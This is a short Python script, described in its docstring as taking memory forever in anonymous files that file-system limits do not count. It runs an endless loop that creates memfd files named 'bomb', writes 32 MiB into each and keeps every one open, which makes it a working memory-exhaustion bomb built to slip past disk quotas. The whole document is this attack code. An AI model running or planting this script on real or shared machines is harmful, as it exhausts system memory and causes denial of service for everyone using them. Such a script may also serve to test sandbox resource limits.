"""Takes memory for ever in anonymous files, which no limit of a file system counts."""

import os

held = []
while True:
    held.append(os.memfd_create("bomb"))
    for _ in range(32):
        os.write(held[-1], b"x" * (1 << 20))
